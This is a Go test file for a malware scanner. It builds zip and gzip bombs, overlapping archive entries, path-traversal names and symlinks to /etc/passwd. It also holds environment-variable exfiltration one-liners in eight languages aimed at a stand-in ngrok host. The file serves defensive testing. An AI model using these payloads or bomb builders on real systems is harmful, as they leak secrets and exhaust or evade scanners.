package detect_test

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
	"unicode/utf16"

	"taisei/detect"
)

// programs are the names that each front end reads.
var programs = []string{"x.js", "x.ts", "x.sh", "x.py", "x.ps1", "x.bat", "x.vbs", "x.php", "x.rb"}

// hostile is one artifact made to harm, and what is said of it.
type hostile struct {
	name string
	data func() []byte
	want detect.Verdict
}

// hostiles are made when they are asked for, since some are large.
func hostiles() []hostile {
	list := []hostile{
		{"bomb.gz", func() []byte { return bomb(10) }, detect.Unscanned},
		{"bomb.tgz", func() []byte { return bomb(10) }, detect.Unscanned},
		{"bomb.zip", zipBomb, detect.Unscanned},
		{"entries.zip", func() []byte { return manyEntries(100_000) }, detect.Unscanned},
		{"entries.tgz", func() []byte { return manyInTar(100_000) }, detect.Unscanned},
		{"overlapping.zip", overlapping, detect.Unscanned},
		{"names.zip", oddNames, detect.Clean},
		{"links.tgz", links, detect.Unscanned},
		{"two.zip", func() []byte { return append(oneInZip("a.js", "a()"), oneInZip("b.js", beacon)...) }, detect.Malicious},
		{"x.tar", func() []byte { return append(oneInTar("a.js", "a()"), oneInZip("b.js", beacon)...) }, detect.Malicious},
		{"nul.js", func() []byte { return bytes.Repeat([]byte("\x00"), 4<<20) }, detect.Unscanned},
	}
	for _, name := range programs {
		ext := filepath.Ext(name)
		list = append(
			list,
			hostile{"brackets" + ext, func() []byte { return source(name, strings.Repeat("(\n", 1_000_000)) }, detect.Unscanned},
			hostile{"kinds" + ext, func() []byte { return source(name, strings.Repeat("([{", 333_334)) }, ""}, // of which batch knows one
			hostile{"closed" + ext, func() []byte { return source(name, strings.Repeat("(", 500_000)+strings.Repeat(")", 500_000)) }, detect.Unscanned},
			hostile{"line" + ext, func() []byte { return source(name, strings.Repeat("a = 1 ; ", 25<<20)) }, detect.Unscanned},
			hostile{"invalid" + ext, func() []byte { return source(name, strings.Repeat("a(\"\xff\xc0\x80\xed\xa0\x80\");\n", 10_000)) }, ""},
		)
	}
	return list
}

// source is a program of a language that begins as that does.
func source(name, text string) []byte {
	if name == "x.php" {
		text = "<?php " + text
	}
	return []byte(text)
}

// TestHostile holds that what is made to harm has an answer: what could not be read is
// told, and the memory taken is bounded.
func TestHostile(t *testing.T) {
	folder := os.Getenv("TAISEI_HOSTILE_FILES") // where to leave them, to be measured with the program itself
	for _, h := range hostiles() {
		t.Run(h.name, func(t *testing.T) {
			data := h.data()
			if folder != "" {
				if err := os.WriteFile(filepath.Join(folder, h.name), data, 0o600); err != nil {
					t.Fatal(err)
				}
			}
			var before, after runtime.MemStats
			runtime.ReadMemStats(&before)
			r := scan(t, detect.Artifact{Name: h.name, Bytes: data})
			runtime.ReadMemStats(&after)
			if r.Verdict != h.want && h.want != "" {
				t.Errorf("verdict %s, want %s, of %d files, unread %.300v", r.Verdict, h.want, r.Files, r.Unread)
			}
			for _, u := range r.Unread {
				if u.Reason == "fault" {
					t.Error(u.Message)
				}
			}
			if used := (after.TotalAlloc - before.TotalAlloc) >> 20; used > 768 {
				t.Errorf("%d MB allocated in all for %d bytes", used, len(data))
			}
		})
	}
}

// bomb is so many gigabytes of zeros, packed as streams that follow one another.
func bomb(gigabytes int) []byte {
	var b bytes.Buffer
	w, _ := gzip.NewWriterLevel(&b, gzip.BestCompression) // a level that there is
	pack(w, make([]byte, 64<<20))
	return bytes.Repeat(b.Bytes(), gigabytes*16)
}

// pack writes what cannot fail, to memory.
func pack(w io.WriteCloser, data []byte) {
	if _, err := w.Write(data); err != nil {
		panic(err)
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
}

// zipBomb is one entry of ten gigabytes: blocks of zeros that are packed once.
func zipBomb() []byte {
	var block bytes.Buffer
	w, _ := flate.NewWriter(&block, flate.BestCompression) // a level that there is
	if _, err := w.Write(make([]byte, 64<<20)); err != nil {
		panic(err)
	}
	if err := w.Flush(); err != nil {
		panic(err)
	}
	data := append(bytes.Repeat(block.Bytes(), 160), 0x03, 0x00) // and an empty block that is the last
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	entry, err := z.CreateRaw(&zip.FileHeader{
		Name: "index.js", Method: zip.Deflate, UncompressedSize64: 10 << 30, CompressedSize64: uint64(len(data)),
	})
	if err != nil {
		panic(err)
	}
	if _, err := entry.Write(data); err != nil {
		panic(err)
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return out.Bytes()
}

func inZip(entries ...[2]string) []byte {
	var out bytes.Buffer
	z := zip.NewWriter(&out)
	for _, e := range entries {
		w, err := z.CreateHeader(&zip.FileHeader{Name: e[0]})
		if err != nil {
			panic(err)
		}
		if _, err := io.WriteString(w, e[1]); err != nil {
			panic(err)
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return out.Bytes()
}

func inTar(headers []tar.Header, data string) []byte {
	var out bytes.Buffer
	w := tar.NewWriter(&out)
	for _, h := range headers {
		h.Mode = 0o644
		if h.Typeflag == tar.TypeReg {
			h.Size = int64(len(data))
		}
		if err := w.WriteHeader(&h); err != nil {
			panic(err)
		}
		if h.Typeflag == tar.TypeReg {
			if _, err := io.WriteString(w, data); err != nil {
				panic(err)
			}
		}
	}
	if err := w.Close(); err != nil {
		panic(err)
	}
	return out.Bytes()
}

func gzipped(data []byte) []byte {
	var out bytes.Buffer
	pack(gzip.NewWriter(&out), data)
	return out.Bytes()
}

func oneInZip(name, data string) []byte { return inZip([2]string{name, data}) }

func oneInTar(name, data string) []byte {
	return inTar([]tar.Header{{Name: name, Typeflag: tar.TypeReg}}, data)
}

func manyEntries(n int) []byte {
	entries := make([][2]string, n+1)
	for i := range entries {
		entries[i] = [2]string{fmt.Sprintf("%d.js", i), "a()"}
	}
	return inZip(entries...)
}

func manyInTar(n int) []byte {
	headers := make([]tar.Header, n+1)
	for i := range headers {
		headers[i] = tar.Header{Name: fmt.Sprintf("p/%d.js", i), Typeflag: tar.TypeReg}
	}
	return gzipped(inTar(headers, "a()"))
}

// overlapping is a thousand entries that are all the same mebibyte of the archive.
func overlapping() []byte {
	one := oneInZip("a.js", strings.Repeat("a(1);\n", 170_000))
	directory, end := bytes.Index(one, []byte("PK\x01\x02")), bytes.Index(one, []byte("PK\x05\x06"))
	data, tail := bytes.Clone(one[:directory]), bytes.Clone(one[end:])
	for i := range 1000 {
		data = append(data, one[directory:directory+46]...)
		data = fmt.Appendf(data, "%c.js", 'a'+i%26)
	}
	size := len(data) - directory
	copy(tail[8:], []byte{0xe8, 0x03, 0xe8, 0x03, byte(size), byte(size >> 8), byte(size >> 16), 0})
	return append(data, tail...)
}

func oddNames() []byte {
	return inZip([2]string{"../../etc/cron.d/x.sh", "a"}, [2]string{"/abs.js", "a()"}, [2]string{`..\..\w.js`, "a()"}, [2]string{"nul\x00.js", "a()"},
		[2]string{"\xff\xfe.js", "a()"}, [2]string{strings.Repeat("d/", 30_000) + "x.js", "a()"})
}

func links() []byte {
	headers := []tar.Header{
		{Name: "p/out.js", Linkname: "/etc/passwd", Typeflag: tar.TypeSymlink},
		{Name: "p/up.js", Linkname: "../../../x", Typeflag: tar.TypeSymlink},
		{Name: "p/self.js", Linkname: "self.js", Typeflag: tar.TypeSymlink},
		{Name: "p/hard.js", Linkname: "p/none.js", Typeflag: tar.TypeLink},
	}
	for i := range 20_000 {
		headers = append(headers, tar.Header{Name: fmt.Sprintf("p/l%d.js", i), Linkname: fmt.Sprintf("l%d.js", i+1), Typeflag: tar.TypeSymlink})
	}
	return gzipped(inTar(headers, ""))
}

// TestMarks holds that a mark of the encoding hides nothing: what is found without one
// is found behind it.
func TestMarks(t *testing.T) {
	tests := map[string]string{
		"x.js":  beacon,
		"x.py":  "import os, urllib.request\nurllib.request.urlopen('https://a1.ngrok-free.app/in', str(dict(os.environ)).encode())\n",
		"x.ps1": "Invoke-WebRequest -Uri https://a1.ngrok-free.app/in -Method Post -Body (Get-ChildItem Env: | Out-String)\n",
		"x.sh":  "# sends\ncurl -d \"$(env)\" https://a1.ngrok-free.app/in\n",
		"x.bat": "powershell -c \"iwr https://a1.ngrok-free.app/in -Method Post -Body (gci env: | Out-String)\"\r\n",
		"x.php": "<?php file_get_contents('https://a1.ngrok-free.app/in?' . http_build_query($_ENV));\n",
		"x.rb":  "require 'net/http'\nNet::HTTP.post(URI('https://a1.ngrok-free.app/in'), ENV.to_h.to_s)\n",
		"x.vbs": "Set s = CreateObject(\"WScript.Shell\")\ns.Run \"powershell -c iwr https://a1.ngrok-free.app/in -Method Post -Body (gci env: | Out-String)\"\n",
	}
	for name, text := range tests {
		want := scan(t, detect.Artifact{Name: name, Bytes: []byte(text)})
		if want.Verdict != detect.Malicious {
			t.Errorf("%s: verdict %s, findings %v", name, want.Verdict, want.Findings)
		}
		marked := scan(t, detect.Artifact{Name: name, Bytes: []byte("\xef\xbb\xbf" + text)})
		if marked.Verdict != want.Verdict {
			t.Errorf("%s behind a mark: verdict %s, want %s", name, marked.Verdict, want.Verdict)
		}
		if name == "x.sh" || name == "x.php" {
			continue // which run nothing that is in UTF-16
		}
		for order, data := range map[string][]byte{"little": utf16Of(text, false), "big": utf16Of(text, true)} {
			if r := scan(t, detect.Artifact{Name: name, Bytes: data}); r.Verdict == detect.Clean {
				t.Errorf("%s in UTF-16, %s end first: verdict %s, unread %v", name, order, r.Verdict, r.Unread)
			}
		}
	}
}

// utf16Of is a text as Windows writes it, or with the bytes the other way round.
func utf16Of(text string, big bool) []byte {
	var out []byte
	for _, u := range utf16.Encode([]rune("\ufeff" + text)) {
		if big {
			u = u<<8 | u>>8
		}
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}
